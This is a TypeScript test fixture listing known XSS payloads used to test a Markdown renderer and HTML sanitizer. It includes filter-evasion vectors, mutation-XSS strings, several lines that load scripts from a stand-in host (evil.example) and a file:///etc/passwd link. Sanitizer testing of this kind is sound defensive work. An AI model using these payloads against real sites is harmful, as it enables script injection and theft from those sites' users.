/**
 * Known XSS payloads, run through renderMarkdown and sanitizeHtml by render.test.ts.
 *
 * Drawn from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), PortSwigger's
 * XSS cheat sheet (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet), the
 * DOMPurify/sanitize-html mutation-XSS reports, and Markdown-specific link tricks.
 * Each entry is one string; `name` says what it tries.
 */
export interface XssPayload {
  name: string;
  payload: string;
}

const TAB = '\t';
const NL = '\n';
const CR = '\r';
const NUL = '\u0000';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // --- Plain script and event handlers ---
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'script with src', payload: '<script src=https://evil.example/x.js></script>' },
  { name: 'script upper case', payload: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script split by null', payload: `<scr${NUL}ipt>alert(1)</scr${NUL}ipt>` },
  { name: 'script nested to survive one pass', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror quoted, no space before attr', payload: '<img src="x"onerror="alert(1)">' },
  { name: 'img onerror with slash separator', payload: '<img/src=x/onerror=alert(1)>' },
  { name: 'img onerror mixed case', payload: '<IMG SRC=x OnErRoR=alert(1)>' },
  { name: 'img onerror backtick', payload: '<img src=x onerror=`alert(1)`>' },
  { name: 'img src javascript', payload: '<img src="javascript:alert(1)">' },
  { name: 'img dynsrc / lowsrc', payload: '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">' },
  { name: 'img srcset', payload: '<img srcset="javascript:alert(1) 1x">' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg/onload no space', payload: '<svg/onload=alert(1)>' },
  { name: 'svg animate href', payload: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>' },
  { name: 'svg script', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg use data url', payload: '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" /></svg>' },
  { name: 'body onload', payload: '<body onload=alert(1)>' },
  { name: 'details open ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'video source onerror', payload: '<video><source onerror=alert(1)></video>' },
  { name: 'audio src onerror', payload: '<audio src=x onerror=alert(1)>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=alert(1)>' },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'p with onmouseover', payload: '<p onmouseover="alert(1)">hover</p>' },
  { name: 'a with onclick and safe href', payload: '<a href="https://example.com" onclick="alert(1)">x</a>' },
  { name: 'keygen / select autofocus', payload: '<select autofocus onfocus=alert(1)><option>x</option></select>' },
  { name: 'onerror with entity-encoded handler', payload: '<img src=x onerror="&#97;lert(1)">' },

  // --- javascript: URLs in HTML ---
  { name: 'a href javascript', payload: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a href JaVaScRiPt mixed case', payload: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'a href with tab inside scheme (entity)', payload: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'a href with raw tab inside scheme', payload: `<a href="jav${TAB}ascript:alert(1)">x</a>` },
  { name: 'a href with newline inside scheme (entity)', payload: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'a href with raw CR/LF inside scheme', payload: `<a href="java${CR}${NL}script:alert(1)">x</a>` },
  { name: 'a href with leading spaces and control char', payload: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'a href decimal entities', payload: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'a href padded decimal entities', payload: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>' },
  { name: 'a href hex entities without semicolons', payload: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>' },
  { name: 'a href named entity colon', payload: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'a href vbscript', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'a href data text/html base64', payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'a href unquoted javascript', payload: '<a href=javascript:alert(1)>x</a>' },
  { name: 'a href backtick quoted', payload: '<a href=`javascript:alert(1)`>x</a>' },
  { name: 'a xlink:href', payload: '<a xlink:href="javascript:alert(1)">x</a>' },
  { name: 'a with formaction-like attrs', payload: '<a href="/ok" formaction="javascript:alert(1)" ping="https://evil.example">x</a>' },
  { name: 'a target _blank without rel', payload: '<a href="https://evil.example" target="_blank" rel="opener">x</a>' },
  { name: 'img src data svg', payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'img src data png', payload: '<img src="data:image/png;base64,iVBORw0KGgo=">' },
  { name: 'blockquote cite javascript', payload: '<blockquote cite="javascript:alert(1)">q</blockquote>' },

  // --- Other carriers ---
  { name: 'iframe src javascript', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'object data', payload: '<object data="javascript:alert(1)"></object>' },
  { name: 'object data html', payload: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'embed src', payload: '<embed src="javascript:alert(1)">' },
  { name: 'embed svg', payload: '<embed src="https://evil.example/x.svg" type="image/svg+xml">' },
  { name: 'form action javascript', payload: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'button formaction', payload: '<form><button formaction="javascript:alert(1)">x</button></form>' },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'meta refresh data', payload: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="javascript:alert(1)">' },
  { name: 'link import', payload: '<link rel="import" href="https://evil.example/x.html">' },
  { name: 'math href', payload: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>' },
  { name: 'template content', payload: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'noscript mutation', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'xmp mutation', payload: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { name: 'textarea mutation', payload: '<textarea><p title="</textarea><img src=x onerror=alert(1)>">' },
  { name: 'title mutation', payload: '<title><p title="</title><img src=x onerror=alert(1)>">' },
  { name: 'style mutation', payload: '<style><p title="</style><img src=x onerror=alert(1)>">' },
  { name: 'comment mutation', payload: '<!--<p title="--><img src=x onerror=alert(1)>">' },
  { name: 'CDATA in html', payload: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { name: 'processing instruction', payload: '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>' },

  // --- Mutation XSS (namespace confusion) ---
  { name: 'math mtext table mglyph style', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'math mtext mglyph svg style', payload: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>' },
  { name: 'svg p style', payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'form nesting mutation', payload: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'svg foreignObject', payload: '<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>' },
  { name: 'nested a mutation', payload: '<a href="/x"><a title="</a><img src=x onerror=alert(1)>">' },
  { name: 'attribute with closing quote and tag', payload: '<p title="x"><img src=x onerror=alert(1)>"</p>' },
  { name: 'attribute value with angle brackets', payload: '<a title="<img src=x onerror=alert(1)>" href="/x">x</a>' },
  { name: 'unclosed attribute', payload: '<a href="/x" title="x>y<img src=x onerror=alert(1)>' },
  { name: 'table foster parenting', payload: '<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>' },
  { name: 'pre with leading newline trick', payload: '<pre>\n<img src=x onerror=alert(1)></pre>' },

  // --- CSS ---
  { name: 'style attribute expression', payload: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'style attribute background url', payload: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'style attribute behavior', payload: '<p style="behavior: url(xss.htc)">x</p>' },
  { name: 'style -moz-binding', payload: '<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</p>' },
  { name: 'style tag import', payload: '<style>@import "javascript:alert(1)";</style>' },
  { name: 'style with escaped expression', payload: '<p style="xss:ex/**/pression(alert(1))">x</p>' },
  { name: 'class and id for CSS clobbering', payload: '<p class="admin-banner" id="__proto__">x</p>' },

  // --- Markdown links and images ---
  { name: 'md link javascript', payload: '[x](javascript:alert(1))' },
  { name: 'md link JAVASCRIPT upper case', payload: '[x](JAVASCRIPT:alert(1))' },
  { name: 'md link entity-encoded j', payload: '[x](&#106;avascript:alert(1))' },
  { name: 'md link fully entity-encoded', payload: '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))' },
  { name: 'md link named entity colon', payload: '[x](javascript&colon;alert(1))' },
  { name: 'md link tab entity in scheme', payload: '[x](jav&#x09;ascript:alert(1))' },
  { name: 'md link percent-encoded tab in scheme', payload: '[x](jav%09ascript:alert(1))' },
  { name: 'md link leading space', payload: '[x]( javascript:alert(1))' },
  { name: 'md link angle-bracket destination', payload: '[x](<javascript:alert(1)>)' },
  { name: 'md link angle-bracket destination with space', payload: '[x](<java script:alert(1)>)' },
  { name: 'md link backslash-escaped colon', payload: '[x](javascript\\:alert(1))' },
  { name: 'md link vbscript', payload: '[x](vbscript:msgbox(1))' },
  { name: 'md link data html', payload: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md link file scheme', payload: '[x](file:///etc/passwd)' },
  { name: 'md link with title breaking out', payload: '[x](https://example.com "a\\" onmouseover=\\"alert(1))' },
  { name: 'md link title with html', payload: '[x](https://example.com "<img src=x onerror=alert(1)>")' },
  { name: 'md image javascript', payload: '![x](javascript:alert(1))' },
  { name: 'md image data svg', payload: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'md image data png', payload: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'md image alt with html', payload: '![<img src=x onerror=alert(1)>](/a.png)' },
  { name: 'md image alt breaking attribute', payload: '![x" onerror="alert(1)](/a.png)' },
  { name: 'md autolink javascript', payload: '<javascript:alert(1)>' },
  { name: 'md autolink JAVASCRIPT with entity', payload: '<JAVASCRIPT:alert&#40;1&#41;>' },
  { name: 'md autolink vbscript', payload: '<vbscript:msgbox(1)>' },
  { name: 'md autolink data', payload: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'md reference link javascript', payload: '[x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'md reference link with title', payload: '[x][r]\n\n[r]: javascript:alert(1) "title"' },
  { name: 'md reference image javascript', payload: '![x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'md reference link entity-encoded', payload: '[x]\n\n[x]: &#106;avascript:alert(1)' },
  { name: 'md link inside html', payload: '<a href="[x](javascript:alert(1))">y</a>' },
  { name: 'md link nested in link text', payload: '[[x](javascript:alert(1))](https://example.com)' },
  { name: 'md linkify javascript', payload: 'see javascript:alert(1) here' },
  { name: 'md code fence language with markup', payload: '```"><img src=x onerror=alert(1)>\ncode\n```' },
  { name: 'md code fence language javascript: class', payload: '```javascript:alert(1) onmouseover=alert(1)\ncode\n```' },
  { name: 'md inline html in emphasis', payload: '*<img src=x onerror=alert(1)>*' },
  { name: 'md html block', payload: '<div onmouseover="alert(1)">\n\n**x**\n\n</div>' },
  { name: 'md table cell with html', payload: '| a |\n|---|\n| <img src=x onerror=alert(1)> |' },
  { name: 'md heading with html', payload: '# <svg onload=alert(1)>' },
  { name: 'md link with newline in destination', payload: '[x](java\nscript:alert(1))' },
  { name: 'md link protocol-relative', payload: '[x](//evil.example/x)' },
  { name: 'md link backslash protocol-relative', payload: '[x](/\\evil.example/x)' },
];
